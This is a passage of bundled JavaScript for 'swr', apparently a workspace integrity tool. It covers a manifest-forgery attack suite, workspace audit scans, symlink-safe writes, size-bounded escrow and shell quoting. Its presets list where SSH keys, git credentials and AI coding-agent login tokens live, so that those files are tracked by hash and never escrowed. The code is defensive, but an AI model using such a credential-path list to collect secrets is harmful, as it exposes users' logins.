    for (const [defence, cls] of Object.entries(DEFENCE_PROBES)) {
        const weakened = { ...ALL_SUITE_DEFENSES, [defence]: false };
        probes[defence] = (await runSuite(scenario, 20, next, weakened, [cls])).forgeries;
    }
    const ok = counts.forgeries === 0 && counts.crashes === 0;
    const toothless = Object.entries(probes)
        .filter(([, n]) => n === 0)
        .map(([d]) => d);
    if (flags.json) {
        io.stdout.write(JSON.stringify({
            schema: 'swr.attacktest/1',
            seed,
            ms,
            ...counts,
            defence_probes: probes,
            ok: ok && toothless.length === 0
        }, null, 2) + '\n');
    }
    else {
        io.stdout.write(`attack suite (seed ${seed}): ${counts.attempts} mutations in ${ms} ms\n`);
        io.stdout.write(`  refused ${counts.refused}, accepted unchanged ${counts.acceptedHonest}, forgeries ${counts.forgeries}, crashes ${counts.crashes}\n`);
        for (const [cls, c] of Object.entries(counts.byClass).sort()) {
            io.stdout.write(`  ${cls.padEnd(26)} ${String(c.attempts).padStart(6)} attempts  ${c.forgeries} forged  ${c.crashes} crashed\n`);
        }
        io.stdout.write('each defence switched off (forgeries found in 20 targeted attempts; must be > 0):\n');
        for (const [d, n] of Object.entries(probes))
            io.stdout.write(`  ${d.padEnd(20)} ${n}\n`);
        io.stdout.write(ok && toothless.length === 0
            ? 'PASS\n'
            : `FAIL${toothless.length ? ` (defences with no effect: ${toothless.join(', ')})` : ''}\n`);
    }
    return ok && toothless.length === 0 ? EXIT.HEALTHY : EXIT.UNREPAIRABLE;
}

;// CONCATENATED MODULE: ./src/core/author/scan.ts
/**
 * What every authoring scan shares: the names no scan enters (VCS metadata, swr's own directory),
 * sorted directory listings that never throw, a bound on how much of a huge workspace one scan
 * may look at, and ignore rules that name exactly one path.
 */

/** Version-control metadata: changes on every fetch, restored by the VCS, never worth an entry. */
const VCS_DIRS = new Set(['.git', '.hg', '.svn']);
/** swr's own directory beside a manifest. */
const SWR_DIR = '.swr';
/** A $HOME workspace can hold millions of files: one scan looks at no more than this many. */
const MAX_SCAN = 200_000;
function isMetaName(name) {
    return VCS_DIRS.has(name) || name === SWR_DIR;
}
/** Directory entries in the tree walk's order (JavaScript string order); [] when unreadable. */
function listDir(abs) {
    try {
        return external_node_fs_default().readdirSync(abs).sort();
    }
    catch {
        return [];
    }
}
function lstatOf(abs) {
    try {
        return external_node_fs_default().lstatSync(abs);
    }
    catch {
        return undefined;
    }
}
function isExecutable(st) {
    return (st.mode & 0o111) !== 0;
}
function scanBudget(limit = MAX_SCAN) {
    let seen = 0;
    return {
        take: () => ++seen <= limit,
        get exhausted() {
            return seen > limit;
        }
    };
}
/**
 * An ignore rule matching exactly `inner` (a path relative to the tree): anchored with a leading
 * slash, because a bare name would match at any depth, and with glob characters escaped.
 */
function literalRule(inner) {
    return '/' + inner.replace(/[\\*?[\]{}()!+@]/g, c => `\\${c}`);
}
/** `rel` joined below `dir` in manifest spelling ("" is the workspace root). */
function joinRel(dir, name) {
    return dir ? `${dir}/${name}` : name;
}

;// CONCATENATED MODULE: ./src/core/author/coverage.ts
/**
 * Which workspace paths a manifest already tracks: each entry's own path, and everything inside a
 * tracked tree that the tree's ignore rules do not leave out (read exactly as the tree walk reads
 * them, so "tracked" here means "judged by some entry's check").
 */



/** `rel` relative to the tree at `root`, or undefined when it is not strictly inside. */
function innerOf(root, rel) {
    if (root === '.')
        return rel === '.' ? undefined : rel;
    return rel.startsWith(root + '/') ? rel.slice(root.length + 1) : undefined;
}
/** The walk skips a path when any of its prefixes is ignored. */
function ignoredInside(t, inner) {
    const segs = inner.split('/');
    return segs.some((name, i) => t.ignored(segs.slice(0, i + 1).join('/'), name, i < segs.length - 1));
}
function coverageOf(entries) {
    const exact = new Map(entries.map(e => [e.path, e.id]));
    const trees = entries.flatMap(e => e.kind === 'tree'
        ? [
            {
                id: e.id,
                path: e.path,
                ignored: ignoreMatcher(e.ignore),
                custom: e.ignore.some(r => !VOLATILE_DIRS.has(r) && !isMetaName(r))
            }
        ]
        : []);
    const covering = (rel) => trees.filter(t => {
        const inner = innerOf(t.path, rel);
        return inner !== undefined && !ignoredInside(t, inner);
    });
    return {
        trackedBy(rel) {
            const id = exact.get(rel);
            if (id !== undefined)
                return { id, exact: true };
            const tree = covering(rel)[0];
            return tree ? { id: tree.id, exact: false } : undefined;
        },
        trackedBelow(rel) {
            return entries.flatMap(e => {
                const inner = innerOf(rel, e.path);
                return inner === undefined ? [] : [inner];
            });
        },
        mayHideUntracked(rel) {
            const own = trees.find(t => t.path === rel);
            return [...(own ? [own] : []), ...covering(rel)].some(t => t.custom);
        }
    };
}

;// CONCATENATED MODULE: ./src/core/author/presets.ts
/**
 * Presets: the files common sandboxes keep their setup in (shell profiles, coding-agent settings),
 * as paths relative to $HOME, the workspace of ~/.swr/manifest.json. Only paths that exist and are
 * not tracked yet are added. Secrets among them (see secrets.ts) become tier-0 `file` entries:
 * tracked by hash, never escrowed.
 *
 * Left out on purpose: files the tools rewrite on every run (~/.claude.json with its counters and
 * per-project history, session logs, histories, caches), because a hash of them would fail every
 * check; and large installed payloads (extensions) that a reinstall brings back.
 */








const PRESETS = [
    {
        name: 'shell',
        description: 'shell profiles, git and ssh configuration, and the logins a shell uses',
        paths: [
            '.bashrc',
            '.bash_profile',
            '.bash_login',
            '.bash_logout',
            '.bash_aliases',
            '.profile',
            '.zshrc',
            '.zshenv',
            '.zprofile',
            '.zlogin',
            '.inputrc',
            '.vimrc',
            '.tmux.conf',
            '.config/fish/config.fish',
            '.config/fish/functions',
            '.gitconfig',
            '.config/git/config',
            '.config/git/ignore',
            '.ssh/config',
            '.ssh/authorized_keys',
            '.ssh/id_*',
            '.netrc',
            '.git-credentials',
            '.npmrc',
            '.pypirc',
            '.config/gh/config.yml',
            '.config/gh/hosts.yml'
        ]
    },
    {
        name: 'claude-code',
        description: 'Claude Code: user settings, memory, commands, agents, skills, hooks, login',
        paths: [
            '.claude/settings.json',
            '.claude/settings.local.json',
            '.claude/CLAUDE.md',
            '.claude/commands',
            '.claude/agents',
            '.claude/skills',
            '.claude/hooks',
            '.claude/rules',
            '.claude/output-styles',
            '.claude/.credentials.json'
        ]
    },
    {
        name: 'codex',
        description: 'OpenAI Codex CLI: config.toml, AGENTS.md, prompts, skills, rules, login',
        paths: [
            '.codex/config.toml',
            '.codex/AGENTS.md',
            '.codex/AGENTS.override.md',
            '.codex/prompts',
            '.codex/agents',
            '.codex/skills',
            '.codex/rules',
            '.codex/auth.json'
        ]
    },
    {
        name: 'aider',
        description: 'aider: its configuration files and the .env holding API keys',
        paths: ['.aider.conf.yml', '.aider.model.settings.yml', '.aider.model.metadata.json', '.env']
    },
    {
        name: 'cursor',
        description: 'Cursor: MCP servers, CLI config, editor settings, keybindings, snippets',
        paths: [
            '.cursor/mcp.json',
            '.cursor/cli-config.json',
            '.cursor/rules',
            '.config/Cursor/User/settings.json',
            '.config/Cursor/User/keybindings.json',
            '.config/Cursor/User/snippets'
        ]
    },
    {
        name: 'gemini',
        description: 'Gemini CLI: settings, GEMINI.md, commands, login',
        paths: [
            '.gemini/settings.json',
            '.gemini/GEMINI.md',
            '.gemini/commands',
            '.gemini/oauth_creds.json'
        ]
    }
];
function presetNamed(name) {
    const p = PRESETS.find(x => x.name === name);
    if (!p)
        throw new UsageError(`preset "${name}": unknown (known: ${PRESETS.map(x => x.name).join(', ')})`);
    return p;
}

function planPreset(workspace, preset, entries) {
    const cov = coverageOf(entries);
    const plan = { requests: [], skipped: [], absent: 0 };
    for (const rel of preset.paths.flatMap(p => expand(workspace, p))) {
        const loc = locateInside(workspace, rel);
        if (loc.state === 'missing')
            plan.absent++;
        else if (loc.state === 'escapes')
            plan.skipped.push({ path: rel, why: loc.why });
        else {
            const by = cov.trackedBy(rel);
            const st = loc.st;
            if (by)
                plan.skipped.push({ path: rel, why: `already tracked by "${by.id}"` });
            else if (!st.isFile() && !st.isDirectory() && !st.isSymbolicLink())
                plan.skipped.push({ path: rel, why: 'not a file, directory or symlink' });
            else
                plan.requests.push(requestFor(rel, st.isFile(), st.isDirectory()));
        }
    }
    return plan;
}
function requestFor(rel, isFile, isDir) {
    if (isSecretPath(rel))
        return { path: rel, ...(isFile ? { kind: 'file' } : {}), tier: 0, note: SECRET_NOTE };
    return isDir ? { path: rel, kind: 'tree', ignore: [...VCS_DIRS] } : { path: rel };
}
/** A preset path, or the names its glob matches now (sorted). */
function expand(workspace, p) {
    const base = external_node_path_default().posix.basename(p);
    if (!/[*?[]/.test(base))
        return [p];
    const dir = external_node_path_default().posix.dirname(p);
    const match = picomatch_default()(base, { dot: true });
    return listDir(external_node_path_default().join(workspace, dir))
        .filter(n => match(n))
        .map(n => `${dir}/${n}`);
}

;// CONCATENATED MODULE: ./src/core/author/audit.ts





function auditWorkspace(workspace, entries, exclude) {
    const scan = { cov: coverageOf(entries), exclude, budget: scanBudget(), rows: [] };
    visit(scan, workspace, '');
    scan.rows.sort((a, b) => b.bytes - a.bytes || b.files - a.files || (a.path < b.path ? -1 : 1));
    return { rows: scan.rows, truncated: scan.budget.exhausted };
}
function skipped(scan, name, abs) {
    return isMetaName(name) || VOLATILE_DIRS.has(name) || scan.exclude.has(abs);
}
function visit(scan, absDir, relDir) {
    for (const name of listDir(absDir)) {
        if (!scan.budget.take())
            return;
        const abs = external_node_path_default().join(absDir, name);
        if (skipped(scan, name, abs))
            continue;
        const rel = joinRel(relDir, name);
        const st = lstatOf(abs);
        if (!st)
            continue;
        if (scan.cov.trackedBy(rel)) {
            if (st.isDirectory() && scan.cov.mayHideUntracked(rel))
                visit(scan, abs, rel);
        }
        else if (st.isDirectory()) {
            if (scan.cov.trackedBelow(rel).length > 0)
                visit(scan, abs, rel);
            else
                scan.rows.push(...treeRows(scan, abs, rel));
        }
        else {
            const row = leafRow(rel, st);
            if (row)
                scan.rows.push(row);
        }
    }
}
function leafRow(rel, st) {
    const row = (kind, bytes) => ({
        kind,
        path: rel,
        bytes,
        files: 1,
        ignore: []
    });
    if (st.isSymbolicLink())
        return row('link', 0);
    if (!st.isFile())
        return undefined;
    if (st.size >= BLOB_THRESHOLD)
        return row('blob', st.size);
    return isExecutable(st) ? row('file', st.size) : undefined;
}
/** A `tree` row for the untracked directory `rel`, and `blob` rows for its large files. */
function treeRows(scan, absRoot, rel) {
    const blobs = [];
    const names = new Set();
    let files = 0;
    let bytes = 0;
    const walk = (absDir, inner) => {
        for (const name of listDir(absDir)) {
            if (!scan.budget.take())
                return;
            const abs = external_node_path_default().join(absDir, name);
            if (skipped(scan, name, abs)) {
                if (!scan.exclude.has(abs))
                    names.add(name);
                continue;
            }
            const st = lstatOf(abs);
            const innerRel = joinRel(inner, name);
            if (!st)
                continue;
            if (st.isDirectory())
                walk(abs, innerRel);
            else if (st.isFile() && st.size >= BLOB_THRESHOLD) {
                blobs.push({
                    kind: 'blob',
                    path: `${rel}/${innerRel}`,
                    bytes: st.size,
                    files: 1,
                    ignore: []
                });
            }
            else {
                files++;
                bytes += st.isFile() ? st.size : 0;
            }
        }
    };
    walk(absRoot, '');
    const ignore = [
        ...[...names].sort(),
        ...blobs.map(b => literalRule(b.path.slice(rel.length + 1)))
    ];
    return files > 0 ? [{ kind: 'tree', path: rel, bytes, files, ignore }, ...blobs] : blobs;
}

;// CONCATENATED MODULE: ./src/core/no-follow.ts
/**
 * Resolving a path below a trusted directory without following a symlink in any component: the
 * rule for every place swr writes, deletes or copies (selftest's scratch copy, quarantine, canary
 * planting and cleaning). Each directory component is lstat'ed and must be a real directory; the
 * last component is returned unresolved, so the caller acts on the name itself (unlink, rmdir,
 * O_NOFOLLOW|O_EXCL create, lstat-guided copy) and never on what a link there points to.
 * A refusal names the component, relative to the trusted directory.
 */



class SymlinkRefusal extends Error {
    component;
    constructor(
    /** The offending component, relative to the trusted directory. */
    component, why) {
        super(`${component} ${why}`);
        this.component = component;
        this.name = 'SymlinkRefusal';
    }
}
/**
 * The absolute path of `rel` (POSIX, no "..") below `root`, every directory component checked to
 * be a real directory. Missing components end the walk (the path cannot lead anywhere yet)
 * unless `mkdir` creates them. Throws SymlinkRefusal naming a symlinked or non-directory part.
 */
function resolveNoFollow(root, rel, opts = {}) {
    if (rel === '.' || rel === '')
        return root;
    const segs = rel.split('/');
    if (segs.some(s => s === '..' || s === ''))
        throw new SymlinkRefusal(rel, 'is not a plain path');
    let dir = root;
    for (let i = 0; i < segs.length - 1; i++) {
        dir = external_node_path_default().join(dir, segs[i]);
        const shown = segs.slice(0, i + 1).join('/');
        let st = external_node_fs_default().lstatSync(dir, { throwIfNoEntry: false });
        if (!st && opts.mkdir) {
            external_node_fs_default().mkdirSync(dir, { mode: 0o755 });
            st = external_node_fs_default().lstatSync(dir);
        }
        if (!st)
            return external_node_path_default().join(root, ...segs);
        if (st.isSymbolicLink())
            throw new SymlinkRefusal(shown, 'is a symlink; not following it');
        if (!st.isDirectory())
            throw new SymlinkRefusal(shown, 'is not a directory');
    }
    return external_node_path_default().join(dir, segs[segs.length - 1]);
}
/** `abs` (below `root`) as a path relative to it, or undefined when it is not below it. */
function relativeInside(root, abs) {
    const a = external_node_path_default().resolve(abs);
    if (!isInside(root, a))
        return undefined;
    return external_node_path_default().relative(root, a).split((external_node_path_default()).sep).join('/') || '.';
}
/**
 * True when the symlink at `linkAbs` (whose parents up to `root` are real directories) can only
 * lead to a place below `root`: a relative target whose ".." segments all come first and do not
 * climb above `root`. A ".." after a named segment is judged unsafe, because the name may itself
 * be a link whose parent is elsewhere; an absolute target is unsafe wherever it points.
 */
function linkStaysInside(root, linkAbs, target) {
    if (target === '' || external_node_path_default().isAbsolute(target) || target.includes('\0'))
        return false;
    const segs = target.split('/').filter(s => s !== '' && s !== '.');
    const firstNamed = segs.findIndex(s => s !== '..');
    const named = firstNamed < 0 ? [] : segs.slice(firstNamed);
    if (named.includes('..'))
        return false;
    return isInside(root, external_node_path_default().resolve(external_node_path_default().dirname(linkAbs), ...segs));
}

;// CONCATENATED MODULE: ./src/core/escrow.ts
/**
 * Escrow: small files carried inside the (signed) manifest, so they can be restored without a
 * recipe. Bytes are escrowed only after they match the recorded sha256, and restored only after
 * the inflated bytes match it again; the inflate is bounded by the recorded size, so a
 * decompression bomb is refused before anything is written.
 *
 * The write never follows a symlink: the parent directories are resolved by no-follow.ts (a
 * symlinked parent is refused, a missing one created), the data goes to a new file with a random name created exclusively with O_NOFOLLOW in
 * the target directory, is fsynced, gets the recorded mode, and is renamed over the target (a
 * symlink planted at the target is replaced, not followed). The result is hashed again.
 */











const ESCROW_MAX_BYTES = 256 * 1024;
function refuse(e, why) {
    return new SwrError(`${e.id}: escrow ${why}`, EXIT.UNREPAIRABLE);
}
function secretRefusal(e, why) {
    return refuse(e, `refused: ${e.path} ${why}; secrets are tracked by hash, never escrowed`);
}
/**
 * Escrow the file's current bytes; refuses when they are not the recorded ones, and always for a
 * secret (the manifest is shared and pushed: secrets are tracked by hash only): by name before
 * anything is read, by place (`stateDir`) and by content (every byte to be embedded) after.
 */
function captureEscrow(workspace, e, maxBytes = ESCROW_MAX_BYTES, stateDir) {
    const byName = secretReason({ rel: e.path, bytes: new Uint8Array() });
    if (byName)
        throw secretRefusal(e, byName);
    if (e.expect.size > maxBytes)
        throw refuse(e, `skipped: ${e.expect.size} bytes is over the ${maxBytes}-byte limit`);
    const abs = resolveEntryPath(workspace, e.path);
    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW | (external_node_fs_default()).constants.O_NONBLOCK);
    let bytes;
    try {
        const st = external_node_fs_default().fstatSync(fd);
        if (!st.isFile())
            throw refuse(e, 'refused: not a regular file');
        if (st.size !== e.expect.size)
            throw refuse(e, `refused: ${st.size} bytes on disk, ${e.expect.size} recorded`);
        bytes = Buffer.alloc(st.size);
        let got = 0;
        while (got < st.size) {
            const n = external_node_fs_default().readSync(fd, bytes, got, st.size - got, got);
            if (n === 0)
                break;
            got += n;
        }
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
    const secret = secretReason({ rel: e.path, abs, bytes, ...(stateDir ? { stateDir } : {}) });
    if (secret)
        throw secretRefusal(e, secret);
    const sha = (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
    if (sha !== e.expect.sha256)
        throw refuse(e, 'refused: the file on disk does not match its recorded sha256');
    return {
        encoding: 'deflate-base64',
        data: (0,external_node_zlib_.deflateRawSync)(bytes, { level: 9 }).toString('base64')
    };
}
/** The escrowed bytes, checked against the recorded size and sha256 (bounded inflate). */
function escrowedBytes(e) {
    if (!e.escrow)
        throw refuse(e, 'absent');
    let bytes;
    try {
        bytes = (0,external_node_zlib_.inflateRawSync)(Buffer.from(e.escrow.data, 'base64'), {
            maxOutputLength: Math.max(1, e.expect.size)
        });
    }
    catch {
        throw refuse(e, `refused: inflates to more than the recorded ${e.expect.size} bytes, or is not deflate data`);
    }
    if (bytes.length !== e.expect.size)
        throw refuse(e, `refused: ${bytes.length} bytes, ${e.expect.size} recorded`);
    if ((0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex') !== e.expect.sha256)
        throw refuse(e, 'refused: bytes do not match the recorded sha256');
    return bytes;
}
/** Create or check each parent directory below the workspace without following a symlink. */
function safeParent(workspace, e) {
    let target;
    try {
        target = resolveNoFollow(workspace, e.path, { mkdir: true });
    }
    catch (err) {
        if (err instanceof SymlinkRefusal)
            throw refuse(e, `refused: ${err.message}`);
        throw err;
    }
    const dir = external_node_path_default().dirname(target);
    const st = external_node_fs_default().lstatSync(dir);
    return { dir, dev: st.dev, ino: st.ino };
}
/** Write the escrowed file into place (see the module comment) and prove it verifies. */
function restoreFromEscrow(workspace, e) {
    const bytes = escrowedBytes(e);
    const parent = safeParent(workspace, e);
    const target = external_node_path_default().join(parent.dir, external_node_path_default().posix.basename(e.path));
    const tmp = external_node_path_default().join(parent.dir, `.${external_node_path_default().posix.basename(e.path)}.swr-${(0,external_node_crypto_.randomBytes)(8).toString('hex')}.tmp`);
    const flags = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
    const fd = external_node_fs_default().openSync(tmp, flags, 0o600);
    try {
        try {
            writeAll(fd, bytes);
            external_node_fs_default().fchmodSync(fd, parseMode(e.expect.mode));
            external_node_fs_default().fsyncSync(fd);
        }
        finally {
            external_node_fs_default().closeSync(fd);
        }
        const again = external_node_fs_default().lstatSync(parent.dir);
        if (again.dev !== parent.dev || again.ino !== parent.ino || again.isSymbolicLink()) {
            throw refuse(e, 'refused: the target directory was replaced while writing');
        }
        const existing = external_node_fs_default().lstatSync(target, { throwIfNoEntry: false });
        if (existing?.isDirectory())
            throw refuse(e, `refused: ${e.path} is a directory; remove it first`);
        external_node_fs_default().renameSync(tmp, target);
    }
    catch (err) {
        external_node_fs_default().rmSync(tmp, { force: true });
        throw err;
    }
    const check = hashFile(target);
    if (check.sha256 !== e.expect.sha256)
        throw refuse(e, 'restored, but the file does not verify');
}

;// CONCATENATED MODULE: ./src/core/shell-quote.ts
/**
 * The one way swr writes a string into shell text it generates (exported recipe scripts, the
 * command lines it suggests). The result is a single word on a single line whatever the string
 * holds: a newline in a signed path or a hostile file name can never end a comment or start a
 * command.
 */

const PLAIN = /^[A-Za-z0-9_/.,:@%+=-]+$/;
function hasControl(s) {
    for (let i = 0; i < s.length; i++)
        if (isControl(s.charCodeAt(i)))
            return true;
    return false;
}
const shell_quote_NAMED = { '\n': '\\n', '\r': '\\r', '\t': '\\t' };
/**
 * `word` as one shell word: as it is when plainly safe, else single-quoted; a word holding a
 * control or bidi character is ANSI-C quoted (`$'a\nb'`, bash, zsh and POSIX.1-2024 shells), so it
 * still reads back as exactly `word` and never spans two lines.
 */
function shellQuote(word) {
    if (PLAIN.test(word))
        return word;
    if (!hasControl(word))
        return `'${word.replace(/'/g, `'\\''`)}'`;
    let out = '';
    for (const ch of word) {
        const c = ch.codePointAt(0) ?? 0;
        if (ch === '\\' || ch === "'")
            out += `\\${ch}`;
        else if (shell_quote_NAMED[ch])
            out += shell_quote_NAMED[ch];
        // UTF-8 bytes, not \u escapes: bash decodes \u by the locale, and a C1 control is two bytes.
        else if (isControl(c))
            for (const b of Buffer.from(ch))
                out += `\\x${b.toString(16).padStart(2, '0')}`;
        else
            out += ch;
    }
    return `$'${out}'`;
}

;// CONCATENATED MODULE: ./src/core/author/hints.ts
/**
 * Command lines the authoring commands suggest, spelled so they can be pasted into a POSIX shell
 * as they are: every word that is not plainly safe is single-quoted.
 */





function commandLine(words) {
    return words.map(shellQuote).join(' ');
}
function targetWords(t) {
    return [
        ...(t.manifest ? ['-m', t.manifest] : []),
        ...(t.workspace ? ['--workspace', t.workspace] : [])
    ];
}
/** `swr add PATH --ignore ...` as typed from the current directory. */
function hints_addCommand(pathArg, ignore, t = {}) {
    return commandLine([
        'swr',
        'add',
        pathArg,
        ...ignore.flatMap(r => ['--ignore', r]),
        ...targetWords(t)
    ]);
}
/** An entry that nothing can bring back: no recipe, no cache source, no escrowed bytes. */
function lacksRecipe(e) {
    return restoreSources(e).length === 0 && !(e.kind === 'file' && e.escrow);
}
/**
 * How to give a tracked entry a recipe. `swr add` refuses a path already tracked, so the recipe
 * goes into the manifest by hand and the edit is approved by signing it.
 */
function recipeHint(manifestShown, t = {}) {
    const sign = commandLine(['swr', 'sign', ...targetWords(t)]);
    return `add "restore": "<shell command>" to the entry in ${manifestShown}, then run ${sign} (for a signed manifest add --approve-digest with the digest "swr verify" shows)`;
}
/** For a small file that is no secret: the escrow command that restores it with no recipe. */
function escrowHint(e, t = {}) {
    if (e.kind !== 'file' || e.expect.size > ESCROW_MAX_BYTES || isSecretPath(e.path))
        return undefined;
    return commandLine(['swr', 'escrow', '--only', e.id, ...targetWords(t)]);
}

;// CONCATENATED MODULE: ./src/cli/commands/author/shared.ts
/**
 * Plumbing the authoring commands share, so that they all find the workspace, capture, save and
 * report the same way: a read-only scan falls back to the current directory when there is no
 * manifest, captures go through the same path as `swr add` (ids never collide, swr's own files
 * are never tracked), saves follow the editing rules (saveEdited), and every added entry, new
 * manifest and signature is reported in one wording.
 */







/** The manifest a read-only scan compares with, or none: then nothing is tracked (cwd is scanned). */
function readView(flags, io) {
    const located = manifestLocation(flags, io);
    if (located.how !== 'new' && external_node_fs_default().existsSync(located.file)) {
        const m = loadManifest(located.file, { workspace: flags.workspace, cwd: io.cwd });
        return { file: m.file, workspace: m.workspace, entries: m.body.entries, found: true };
    }
    const dir = external_node_path_default().resolve(io.cwd, flags.workspace ?? '.');
    if (!external_node_fs_default().statSync(dir, { throwIfNoEntry: false })?.isDirectory())
        throw new UsageError(`workspace ${dir} is not a directory`);
    const workspace = external_node_fs_default().realpathSync(dir);
    if (workspace === '/')
        throw new UsageError('workspace "/" is refused: describe a directory, not the whole machine');
    return { file: located.file, workspace, entries: [], found: false };
}
function shown(io, file) {
    return external_node_path_default().relative(io.cwd, file) || file;
}
function target(flags) {
    return { manifest: flags.manifest, workspace: flags.workspace };
}
function exclusions(file, io) {
    return ownPaths(file, stateDir(io));
}
async function captureAll(m, requests, io, jobs) {
    const taken = new Set(m.doc.body.entries.map(e => e.id));
    const exclude = exclusions(m.file, io);
    const out = [];
    for (const req of requests) {
        const c = await captureEntry(m.workspace, req, taken, {
            pool: { jobs },
            exclude,
            stateDir: stateDir(io)
        });
        taken.add(c.entry.id);
        out.push(c);
    }
    return out;
}
/** Append the captured entries and save under the editing rules, with their tree indexes. */
function saveAdded(m, added, io) {
    m.doc.body.entries.push(...added.map(a => a.entry));
    const sidecars = new Map(added.flatMap(a => (a.index ? [[indexPath(m.file, a.entry.id), a.index]] : [])));
    return saveEdited(m.file, m.doc, { resign: m.resign, created: m.created, sidecars }, io);
}
function signedLine(saved, m) {
    return saved.signed
        ? `signed version ${saved.version}, digest ${saved.digest}\n`
        : `note: ${saved.note ?? m.note ?? 'manifest is unsigned: run "swr sign" to approve it'}\n`;
}
function savedJson(saved) {
    return saved
        ? { written: true, signed: saved.signed, version: saved.version, digest: saved.digest }
        : { written: false };
}
function printJson(io, doc) {
    io.stdout.write(JSON.stringify(doc, null, 2) + '\n');
}
function size(bytes) {
    const units = ['B', 'KiB', 'MiB', 'GiB', 'TiB'];
    let v = bytes;
    let u = 0;
    while (v >= 1024 && u < units.length - 1) {
        v /= 1024;
        u++;
    }
    return u === 0 ? `${bytes} B` : `${v.toFixed(1)} ${units[u]}`;
}
function count(files) {
    return `${files.toLocaleString('en-US')} ${files === 1 ? 'file' : 'files'}`;
}
function addedLine(e) {
    const extra = e.kind === 'tree'
        ? `, ${(e.expect.files ?? 0).toLocaleString('en-US')} files, sentinels: ${escapeText(e.expect.sentinels.join(', ')) || 'none'}`
        : e.kind === 'link'
            ? `, -> ${escapeText(e.expect.target)}`
            : `, ${e.expect.size.toLocaleString('en-US')} bytes`;
    return `added ${e.kind} "${escapeText(e.id)}" (${escapeText(e.path)}, tier ${e.tier}${extra})\n`;
}
function createdLine(io, m) {
    return m.created ? `created ${shown(io, m.file)} describing ${escapeText(m.workspace)}\n` : '';
}

;// CONCATENATED MODULE: ./src/cli/commands/author/audit.ts
/**
 * `swr audit`: the read-only first look. It works with no manifest at all (then nothing counts as
 * tracked), so it can show what is worth protecting before anything is written, and every row
 * carries the `swr add` line that tracks it, spelled relative to the current directory so it can
 * be pasted as is.
 */






const DEFAULT_AUDIT_LIMIT = 20;
function auditCommand(flags, io) {
    const view = readView(flags, io);
    const result = auditWorkspace(view.workspace, view.entries, exclusions(view.file, io));
    const limit = flags.limit ?? DEFAULT_AUDIT_LIMIT;
    const rows = result.rows.slice(0, limit).map(r => withCommand(r, view, io, target(flags)));
    if (flags.json) {
        printJson(io, {
            schema: 'swr.audit/1',
            manifest: view.found ? view.file : null,
            workspace: view.workspace,
            limit,
            total: result.rows.length,
            truncated_scan: result.truncated,
            candidates: rows
        });
        return EXIT.HEALTHY;
    }
    if (flags.quiet && rows.length === 0)
        return EXIT.HEALTHY;
    const out = [
        view.found
            ? `workspace ${escapeText(view.workspace)} (manifest ${shown(io, view.file)}, ${view.entries.length} entries)\n`
            : `no manifest found: nothing counts as tracked; scanning ${escapeText(view.workspace)}\n`
    ];
    for (const r of rows)
        out.push(`${r.kind.padEnd(4)} ${size(r.bytes).padStart(10)} ${count(r.files).padStart(13)}  ${escapeText(r.path)}\n     ${escapeText(r.command)}\n`);
    if (rows.length === 0)
        out.push('nothing untracked worth protecting\n');
    if (result.rows.length > rows.length)
        out.push(`${result.rows.length - rows.length} more: --limit ${result.rows.length} shows them all\n`);
    if (result.truncated)
        out.push('note: the scan stopped early; the workspace is very large\n');
    io.stdout.write(out.join(''));
    return EXIT.HEALTHY;
}
function withCommand(r, view, io, t) {
    const arg = external_node_path_default().relative(io.cwd, external_node_path_default().join(view.workspace, r.path)) || '.';
    return {
        kind: r.kind,
        path: r.path,
        bytes: r.bytes,
        files: r.files,
        command: hints_addCommand(arg, r.ignore, t)
    };
}

;// CONCATENATED MODULE: ./src/core/author/autopilot.ts
/**
 * `autopilot`: bring a manifest up to date with init's rules without touching what is already
 * there. Each top-level source tree not yet tracked becomes a `tree` entry whose sentinels are real
 * markers found in it; executable scripts at the top level become `file` entries; large files
 * anywhere outside volatile directories become `blob` entries. Volatile directories
 * (node_modules, build, ...) are never entries, and every new tree ignores them. Running it
 * again adds nothing: everything it would add is then tracked.
 */






/** A tree is a source tree when one of these is at its root (the same markers capture prefers). */
const TREE_MARKERS = PROJECT_MARKERS;
const SOURCE_FILE = /\.(ts|tsx|mts|cts|js|jsx|mjs|cjs|py|go|rs|c|h|cc|cpp|cxx|hpp|java|kt|swift|rb|cs|zig)$/;
function planAutopilot(workspace, entries, exclude) {
    const ctx = { workspace, cov: coverageOf(entries), exclude, budget: scanBudget() };
    const blobs = untrackedBlobs(ctx);
    const trees = [];
    const scripts = [];
    const skipped = [];
    for (const name of listDir(workspace)) {
        const abs = external_node_path_default().join(workspace, name);
        if (isMetaName(name) || VOLATILE_DIRS.has(name) || exclude.has(abs))
            continue;
        if (ctx.cov.trackedBy(name))
            continue;
        const st = lstatOf(abs);
        if (st?.isDirectory() && !name.startsWith('.')) {
            const planned = planTree(ctx, name, blobs);
            if (planned && 'why' in planned)
                skipped.push({ path: name, why: planned.why });
            else if (planned)
                trees.push(planned);
        }
        else if (st?.isFile() && isExecutable(st) && st.size < BLOB_THRESHOLD) {
            scripts.push({ path: name, kind: 'file' });
        }
    }
    const blobRequests = blobs.map((p) => ({ path: p, kind: 'blob' }));
    return {
        requests: [...trees, ...scripts, ...blobRequests],
        skipped,
        truncated: ctx.budget.exhausted
    };
}
/** Untracked files of at least BLOB_THRESHOLD bytes, outside volatile and VCS directories. */
function untrackedBlobs(ctx) {
    const out = [];
    const walk = (absDir, relDir) => {
        for (const name of listDir(absDir)) {
            if (!ctx.budget.take())
                return;
            const abs = external_node_path_default().join(absDir, name);
            if (isMetaName(name) || VOLATILE_DIRS.has(name) || ctx.exclude.has(abs))
                continue;
            const rel = joinRel(relDir, name);
            const st = lstatOf(abs);
            if (st?.isDirectory())
                walk(abs, rel);
            else if (st?.isFile() && st.size >= BLOB_THRESHOLD && !ctx.cov.trackedBy(rel))
                out.push(rel);
        }
    };
    walk(ctx.workspace, '');
    return out;
}
/**
 * The tree request for top-level directory `name`, why it is not a source tree, or undefined when
 * it holds nothing of its own (empty, or only what other entries and the ignore rules cover).
 */
function planTree(ctx, name, blobs) {
    const root = external_node_path_default().join(ctx.workspace, name);
    const inner = [
        ...ctx.cov.trackedBelow(name),
        ...blobs.flatMap(b => (b.startsWith(name + '/') ? [b.slice(name.length + 1)] : []))
    ];
